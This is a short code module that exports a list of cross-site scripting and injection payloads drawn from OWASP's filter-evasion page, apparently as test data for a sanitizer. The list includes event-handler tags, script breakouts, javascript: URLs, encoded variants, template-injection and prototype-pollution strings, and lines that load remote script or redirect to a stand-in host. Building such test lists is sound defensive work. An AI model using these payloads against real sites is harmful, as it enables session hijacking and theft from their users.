/** Elements that run or fetch something by themselves, and the ways in which they are told to. Source: OWASP's page on evading XSS filters. */
const elements = [
  "img",
  "svg",
  "iframe",
  "body",
  "input",
  "video",
  "audio",
  "details",
  "object",
  "marquee",
  "math",
  "style",
];
const events = ["onerror", "onload", "onfocus", "onclick", "ontoggle"];

const handlers = elements.flatMap((element) =>
  events.map((event) => `<${element} src=x autofocus open ${event}=attacked(1)>${element}</${element}>`),
);

const others = [
  "<script>attacked(1)</script>",
  "<ScRiPt>attacked(1)</sCrIpT>",
  "<script src=//example.invalid/x.js></script>",
  "</script><script>attacked(1)</script>",
  "</title><script>attacked(1)</script>",
  "</textarea><script>attacked(1)</script>",
  "--><script>attacked(1)</script>",
  "<![CDATA[<script>attacked(1)</script>]]>",
  '"><img src=x onerror=attacked(1)>',
  "'><img src=x onerror=attacked(1)>",
  "`><img src=x onerror=attacked(1)>",
  '" autofocus onfocus="attacked(1)',
  "' onmouseover='attacked(1)",
  '<a href="javascript:attacked(1)">x</a>',
  "javascript:attacked(1)",
  "data:text/html,<script>attacked(1)</script>",
  "vbscript:attacked(1)",
  "<base href=//example.invalid/>",
  '<meta http-equiv="refresh" content="0;url=//example.invalid/">',
  "<link rel=stylesheet href=//example.invalid/x.css>",
  '<form action="//example.invalid/"><button>x</button></form>',
  '<embed src="//example.invalid/">',
  "<table background=//example.invalid/x.png>",
  '<p style="background:url(//example.invalid/x)">x</p>',
  "{{constructor.constructor('attacked(1)')()}}",
  "${attacked(1)}",
  "&lt;script&gt;attacked(1)&lt;/script&gt;",
  "\u003cscript\u003eattacked(1)\u003c/script\u003e",
  "%3Cscript%3Eattacked(1)%3C/script%3E",
  "__proto__[polluted]=1",
];

export const markupPayloads: readonly string[] = [...handlers, ...others];
